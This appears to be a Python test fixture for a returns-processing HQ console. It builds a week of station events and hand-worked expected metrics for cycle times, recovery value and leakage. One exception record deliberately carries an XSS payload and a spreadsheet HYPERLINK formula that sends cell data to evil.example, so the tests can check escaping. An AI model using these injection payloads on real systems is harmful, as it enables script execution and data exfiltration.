"""A small HQ history with answers worked out by hand, for the console's tests (and the browser's).

Week 2026-W07 (Mon 9 Feb 2026 00:00 UTC to Mon 16 Feb), stations B07 and B08 at site Leeds, C01 at
York; prices in USD:

| unit | received | first disposition | hours | path (kind) | recovery | price | grade |
| --- | --- | --- | --- | --- | --- | --- | --- |
| B07-00000001 phones | Mon 09:00 | Mon 19:00 | 10 | restock (policy) | 95.00 | 100.00 | A |
| B07-00000002 phones | Mon 09:00 | Tue 05:00 | 20 | refurbish (policy), then liquidate (override) Tue 06:00 | 20.00 | 100.00 | C |
| B08-00000001 apparel, risk flag empty_box | Mon 10:00 | Mon 14:00 | 4 | open_box (override) | 30.00 | 40.00 | B |
| C01-00000001 toys | Tue 08:00 | Thu 08:00 | 48 | recycle (policy) | 0.00 | 20.00 | F |
| C01-00000002 toys | 1 Jan 08:00 | never: open 45.7 days at the week's end | | | | 20.00 | |
| B07-00000003 phones, week W06 | Mon 2 Feb 09:00 | Tue 3 Feb 09:00 | 24 | restock (policy) | 85.00 | 100.00 | B |

So for W07, all stations: received 4, disposed 4, cycle hours 4, 10, 20, 48: P50 10 h, P90 48 h
(nearest rank); right first time 2 of 4 (50.0%); recovery 145.00 of 260.00 (55.8%); working capital
released 145.00 (restock 95 + liquidate 20 + open_box 30; recycle is not); leakage 25.00: an
unmatched `unknown_rma` exception at B07 worth 15.00, and B08's empty box (40 − 30); open: one unit
30-60 days old. Leeds: disposed 3, P50 10 h, P90 20 h. York: disposed 1, P50 = P90 = 48 h.
W06: one unit, cycle 24 h.

The B07 exception carries text a browser must show as text (`<script>`, a spreadsheet formula).
C01's `duplicate` exception is resolved (matched) on the Thursday.
"""

from __future__ import annotations

from datetime import UTC, datetime
from pathlib import Path
from typing import Any

from sync.hq.db import HQDatabase, add_station
from sync.hq.events import store_batch
from sync.hq.manifest_import import import_csv
from sync.protocol import EventIn

WEEK, PREV_WEEK = "2026-W07", "2026-W06"
SITES = {"B07": "Leeds", "B08": "Leeds", "C01": "York"}
XSS = '<script>document.title="pwned"</script><img src=x onerror=alert(1)>'
FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"RMA")'
POLICY_VERSION = "2026.02-1"
CSV_HEAD = ("rma_id,order_id,created_at,expires_at,status,line_no,sku,gtin,description,category,qty,unit_price,"
            "currency,expected_serial,reason_code,carrier,tracking_number\n")
RMAS = [
    ("RMA-2026-000001", "ORD-1001", "PHN-1", "Phone 128 GB", "phones", "100.00"),
    ("RMA-2026-000002", "ORD-1001", "PHN-1", "Phone 128 GB", "phones", "100.00"),
    ("RMA-2026-000003", "ORD-1002", "APP-9", "Rain jacket", "apparel", "40.00"),
    ("RMA-2026-000004", "ORD-1003", "TOY-5", "Kite", "toys", "20.00"),
    ("RMA-2026-000005", "ORD-1004", "TOY-5", "Kite", "toys", "20.00"),
    ("RMA-2026-000006", "ORD-1005", "PHN-1", "Phone 128 GB", "phones", "100.00"),
]


def t(day: int, hour: int, month: int = 2) -> datetime:
    return datetime(2026, month, day, hour, tzinfo=UTC)


class Pusher:
    def __init__(self) -> None:
        self.by_station: dict[str, list[EventIn]] = {}

    def ev(self, station: str, event_kind: str, at: datetime, lpn: str | None = None, rma: str | None = None, /,
           operator: str | None = "1001", **payload: Any) -> None:
        events = self.by_station.setdefault(station, [])
        events.append(EventIn(seq=len(events) + 1, kind=event_kind, at=at, operator=operator, lpn=lpn, rma_id=rma,
                              payload=payload))

    def unit(self, lpn: str, rma: str, category: str, price: str, received: datetime, grade: str | None = None,
             decisions: tuple[tuple[datetime, str, str, str], ...] = (), flags: tuple[str, ...] = ()) -> None:
        station = lpn.split("-")[0]
        self.ev(station, "unit_received", received, lpn, rma, line_no=1, sku=f"SKU-{category}", category=category,
                lane="standard", sla_hours=24, risk_flags=list(flags), unit_price=price, currency="USD",
                code=rma, source="hid")
        if grade is None:
            return
        self.ev(station, "inspection_started", received, lpn, rma, operator="2001", inspection_id=1,
                checklist=category, checklist_version=1)
        self.ev(station, "inspection_answered", received, lpn, rma, operator="2001", inspection_id=1, step="powers_on",
                index=0, value=True, result="pass", flags=[], grade_cap=None, suggested_grade=grade)
        self.ev(station, "unit_graded", received, lpn, rma, operator="2001", inspection_id=1, grade=grade,
                suggested_grade=grade, changed=False, flags=list(flags), checklist=category, checklist_version=1,
                category=category, unit_price=price)
        for at, path, kind, value in decisions:
            self.ev(station, "unit_disposed", at, lpn, rma, operator="9001" if kind == "override" else "2001",
                    kind=kind, path=path, rule_id=f"rule-{path}", reason="test", policy_version=POLICY_VERSION,
                    destination=path, recovery_value=value, category=category, grade=grade, unit_price=price,
                    flags=list(flags), approved_by="9001" if kind == "override" else None, approval_reason=None)


def events() -> dict[str, list[EventIn]]:
    p = Pusher()
    for station in SITES:  # who the badges are, as each bench signed them in
        p.ev(station, "operator_signed_in", t(2, 8), operator="1001", name="Casey Clerk", role="clerk", source="badge")
        p.ev(station, "operator_signed_in", t(2, 8), operator="2001", name="Gale Grader", role="grader", source="badge")
        p.ev(station, "operator_signed_in", t(2, 8), operator="9001", name="Lee Lead", role="lead", source="badge")
    p.unit("B07-00000003", "RMA-2026-000006", "phones", "100.00", t(2, 9), "B", ((t(3, 9), "restock", "policy", "85.00"),))
    p.unit("B07-00000001", "RMA-2026-000001", "phones", "100.00", t(9, 9), "A", ((t(9, 19), "restock", "policy", "95.00"),))
    p.unit("B07-00000002", "RMA-2026-000002", "phones", "100.00", t(9, 9), "C",
           ((t(10, 5), "refurbish", "policy", "40.00"), (t(10, 6), "liquidate", "override", "20.00")))
    p.unit("B08-00000001", "RMA-2026-000003", "apparel", "40.00", t(9, 10), "B",
           ((t(9, 14), "open_box", "override", "30.00"),), flags=("empty_box",))
    p.unit("C01-00000001", "RMA-2026-000004", "toys", "20.00", t(10, 8), "F", ((t(12, 8), "recycle", "policy", "0.00"),))
    p.unit("C01-00000002", "RMA-2026-000005", "toys", "20.00", t(1, 8, month=1))
    # an age trigger raised the open unit to the lead this week (issue 20): counted by trigger id
    p.ev("C01", "age_trigger_fired", t(11, 8), "C01-00000002", "RMA-2026-000005", trigger_id="ungraded-30d",
         policy_version=POLICY_VERSION, action="escalate", previous=None, target=None, reason="Waited 30 days")
    p.ev("B07", "exception_recorded", t(11, 12), None, None, id=1, kind="unknown_rma", code=FORMULA, detail=XSS,
         source="hid", value="15.00")
    p.ev("C01", "exception_recorded", t(11, 13), None, None, id=7, kind="duplicate", code="RMA-2026-000004",
         detail="already received", source="hid", value="20.00")
    p.ev("C01", "exception_resolved", t(12, 9), None, None, operator="9001", id=7, kind="duplicate", action="matched",
         reason="second box of the same return", lpn=None)
    return p.by_station


def load(db: HQDatabase, tmp: Path) -> dict[str, str]:
    """Stations (their tokens), the manifest and every event above, at HQ."""
    tokens = {station: add_station(db, station, site=site) for station, site in SITES.items()}
    csv = tmp / "manifest.csv"
    csv.write_text(CSV_HEAD + "".join(
        f"{rma},{order},2026-01-01T00:00:00+00:00,2026-12-31T00:00:00+00:00,open,1,{sku},,{desc},{cat},1,{price},"
        f"USD,,defective,,\n" for rma, order, sku, desc, cat, price in RMAS))
    report = import_csv(db, csv)
    assert report.errors == 0 and report.rmas_new == len(RMAS), report.error_rows
    for station, evs in events().items():
        store_batch(db, station, evs)
    return tokens


def candidate_policy(package_policy: str) -> str:
    """The package's policy with grade A sent to open box instead of restock, as version 2026.12-cand.

    On the data above only B07-00000001 (phones, grade A, 100.00) changes path: restock 95.00 to
    open_box 85.00, delta -10.00, of 5 graded units."""
    text = package_policy.replace('version = "2026.11-1"', 'version = "2026.12-cand"', 1)
    marker = 'id = "restock-a"'
    head, tail = text.split(marker, 1)
    tail = tail.replace('path = "restock"', 'path = "open_box"', 1)
    assert 'version = "2026.12-cand"' in text
    return head + marker + tail
